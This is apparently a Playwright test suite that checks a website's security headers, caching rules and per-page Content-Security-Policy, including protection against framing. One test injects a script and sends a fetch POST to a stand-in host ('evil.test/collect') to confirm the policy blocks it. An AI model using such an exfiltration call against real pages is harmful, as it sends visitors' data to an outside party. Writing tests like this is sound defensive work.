import { createHash } from 'node:crypto';
import { createServer } from 'node:http';
import type { APIResponse } from '@playwright/test';
import { test, expect, visit } from './fixtures';
import { ARTICLES, articlePath } from './blog-data';
import { exportedRoutes } from './exported-pages';
import { PROXY } from '../fixtures/tester/mock-services';

const ARTICLE = articlePath(ARTICLES[0].slug);
const YEAR = 365 * 24 * 60 * 60;

/** The headers the issue requires on every response, whatever its type. */
function expectSecurityHeaders(response: APIResponse) {
  const headers = response.headers();
  const hsts = headers['strict-transport-security'] ?? '';
  expect(Number(/max-age=(\d+)/.exec(hsts)?.[1] ?? 0)).toBeGreaterThanOrEqual(YEAR);
  expect(hsts).toMatch(/;\s*includeSubDomains/);
  expect(headers['x-content-type-options']).toBe('nosniff');
  expect(headers['x-frame-options']).toBe('DENY');
  expect(headers['referrer-policy']).toBe('strict-origin-when-cross-origin');
  expect(headers['cross-origin-opener-policy']).toBe('same-origin');
  expect(headers['permissions-policy']).toMatch(/(^|, )camera=\(\)/);
  expect(headers['permissions-policy']).toMatch(/(^|, )microphone=\(\)/);
  expect(headers['permissions-policy']).toMatch(/(^|, )geolocation=\(\)/);
  expect(headers['content-security-policy']).toContain("frame-ancestors 'none'");
}

/** The page's own policy, from its <meta http-equiv="Content-Security-Policy">, as directive -> sources. */
function metaPolicy(html: string): Record<string, string[]> {
  const content = /<meta http-equiv="Content-Security-Policy" content="([^"]*)"\/>/.exec(html)?.[1];
  expect(content, 'the page has a Content-Security-Policy meta tag').toBeTruthy();
  return Object.fromEntries(
    content!.split(';').map((part) => {
      const [name, ...sources] = part.trim().split(/\s+/);
      return [name, sources];
    }),
  );
}

/** The texts of the inline scripts a browser runs (not JSON-LD, not external files). */
function inlineScripts(html: string): string[] {
  return [...html.matchAll(/<script(?![^>]*\bsrc=)(?![^>]*type="application\/ld\+json")[^>]*>([\s\S]*?)<\/script>/g)].map((m) => m[1]);
}

/** sha256 hash sources of the inline scripts a browser runs. */
function inlineScriptHashes(html: string): string[] {
  return inlineScripts(html).map((text) => `'sha256-${createHash('sha256').update(text, 'utf8').digest('base64')}'`);
}

test.describe('response headers, as npm start and the CDN send them (out/_headers)', () => {
  test('a page: security headers, revalidated on every visit', async ({ request }) => {
    for (const path of ['/', ARTICLE]) {
      const response = await request.get(path);
      expect(response.status()).toBe(200);
      expectSecurityHeaders(response);
      expect(response.headers()['cache-control']).toBe('public, max-age=0, must-revalidate');
    }
  });

  test('a build file: security headers and a year of immutable caching', async ({ request }) => {
    const html = await (await request.get('/')).text();
    const script = /<script src="(\/_next\/static\/[^"]+\.js)"/.exec(html)?.[1];
    const style = /<link rel="stylesheet" href="(\/_next\/static\/[^"]+\.css)"/.exec(html)?.[1];
    for (const path of [script!, style!]) {
      const response = await request.get(path);
      expect(response.status()).toBe(200);
      expectSecurityHeaders(response);
      expect(response.headers()['cache-control']).toBe('public, max-age=31536000, immutable');
    }
  });

  test('an image, the feed and the 404 page carry the same security headers', async ({ request }) => {
    const image = await request.get('/images/map/kontor-tartu.svg');
    expect(image.status()).toBe(200);
    expectSecurityHeaders(image);
    const feed = await request.get('/blogi/rss.xml');
    expect(feed.status()).toBe(200);
    expectSecurityHeaders(feed);
    expect((await request.get('/_headers')).status(), 'the host reads _headers, it does not serve it').toBe(404);
    const missing = await request.get('/see-lehte-ei-ole');
    expect(missing.status()).toBe(404);
    expectSecurityHeaders(missing);
    expect(missing.headers()['cache-control']).toBe('public, max-age=0, must-revalidate');
  });

  test('another site cannot show the pages in a frame', async ({ page, baseURL }) => {
    // Another origin, served from loopback (the browser would stop a public page from framing loopback anyway).
    const port = Number(new URL(baseURL!).port) + 7;
    const framer = createServer((_req, res) => {
      res.writeHead(200, { 'Content-Type': 'text/html; charset=utf-8' });
      res.end(`<!DOCTYPE html><title>framer</title><iframe src="${baseURL}/kontakt" onload="document.title='loaded'"></iframe>`);
    });
    await new Promise<void>((resolve) => framer.listen(port, '127.0.0.1', resolve));
    try {
      await visit(page, `http://127.0.0.1:${port}/`);
      await expect(page).toHaveTitle('loaded');
      await expect(page.frameLocator('iframe').getByRole('heading', { level: 1 })).toHaveCount(0);
    } finally {
      framer.close();
    }
  });
});

test.describe("each page's Content-Security-Policy", () => {
  for (const path of [...exportedRoutes(), '/see-lehte-ei-ole']) {
    test(`${path}: the policy comes first and allows exactly its own inline scripts`, async ({ request }) => {
      const html = await (await request.get(path)).text();
      const policy = metaPolicy(html);
      const metaAt = html.indexOf('<meta http-equiv="Content-Security-Policy"');
      expect(html.slice(0, metaAt)).toMatch(/^<!DOCTYPE html><html[^>]*><head><meta charSet="utf-8"\/>$/);
      expect(policy['script-src']).not.toContain("'unsafe-inline'");
      expect(policy['script-src']).not.toContain("'unsafe-eval'");
      expect(policy['style-src']).not.toContain("'unsafe-inline'");
      expect(policy['style-src-attr'] ?? []).not.toContain("'unsafe-inline'");
      const hashes = inlineScriptHashes(html);
      expect(hashes.length).toBeGreaterThan(0);
      // Next's bootstrap, its payload and the loader are one script, allowed by one hash (scripts/build/one-inline-script.mjs).
      const framework = inlineScripts(html).filter((text) => text.includes('self.__next_f'));
      expect(framework).toHaveLength(1);
      expect(framework[0]).toContain('(function(d){var s=[');
      expect(policy['script-src'].filter((s) => s.startsWith("'sha256-")).sort()).toEqual([...new Set(hashes)].sort());
      expect(policy['default-src']).toEqual(["'none'"]);
      expect(policy['object-src']).toEqual(["'none'"]);
      expect(policy['base-uri']).toEqual(["'none'"]);
      expect(policy['form-action']).toEqual(["'none'"]);
      expect(policy['frame-src']).toEqual(['https://www.openstreetmap.org']);
      expect(policy['connect-src']).toEqual(["'self'", 'https://api.emailjs.com', new URL(PROXY).origin, 'https://www.googleapis.com']);
      expect(policy['img-src']).toEqual(["'self'", 'data:']);
    });
  }

  test('a script injected into a page does not run, nor can it load or send anything, and the suite notices', async ({ page, cspViolations }) => {
    await visit(page, '/kontakt');
    await page.evaluate(() => {
      const script = document.createElement('script');
      script.textContent = 'window.__injected = true';
      document.body.append(script);
      const image = document.createElement('img');
      image.src = 'https://evil.test/pixel.png';
      document.body.append(image);
      void fetch('https://evil.test/collect', { method: 'POST', body: 'x' }).catch(() => undefined);
    });
    await expect.poll(() => cspViolations.map((v) => v.directive).sort()).toEqual(['connect-src', 'img-src', 'script-src-elem']);
    expect(await page.evaluate(() => (window as unknown as { __injected?: boolean }).__injected)).toBeUndefined();
    expect(cspViolations.find((v) => v.directive === 'connect-src')?.blocked).toBe('https://evil.test/collect');
    cspViolations.length = 0;
  });

  test('the browser accepts the headers and the policy without a console error', async ({ page }) => {
    const messages: string[] = [];
    page.on('console', (message) => {
      if (message.type() === 'error' || message.type() === 'warning') messages.push(message.text());
    });
    await visit(page, '/');
    await visit(page, ARTICLE);
    await expect(page.getByRole('heading', { level: 1 })).toBeVisible();
    expect(messages.filter((m) => /Permissions-Policy|Content Security Policy|Content-Security-Policy|feature/i.test(m))).toEqual([]);
  });

  test("moving between pages in the app (no reload) stays within the first page's policy", async ({ page }) => {
    const markDocument = () => page.evaluate(() => ((window as unknown as { sameDocument: boolean }).sameDocument = true));
    const stillSameDocument = () => page.evaluate(() => (window as unknown as { sameDocument?: boolean }).sameDocument);
    await visit(page, '/');
    await markDocument();
    const nav = page.getByRole('navigation', { name: 'Peamenüü' });
    for (const name of ['Tehtud tööd', 'Kontakt']) {
      await nav.getByRole('link', { name }).click();
      await expect(page.getByRole('heading', { level: 1 })).toHaveText(name);
    }
    expect(await stillSameDocument()).toBe(true);
    // /blogi has no style attributes (style-src-attr 'none'); a client story draws its before/after slider with them.
    const story = ARTICLES.find((a) => a.cta === 'case-study')!;
    await visit(page, '/blogi');
    await markDocument();
    await page.getByRole('link', { name: story.title }).first().click();
    await expect(page).toHaveURL(new RegExp(`${articlePath(story.slug)}$`));
    await expect(page.getByRole('heading', { level: 1 })).toHaveText(story.title);
    await expect(page.getByTestId('before-layer')).toHaveAttribute('style', /clip-path/);
    expect(await stillSameDocument()).toBe(true);
  });
});
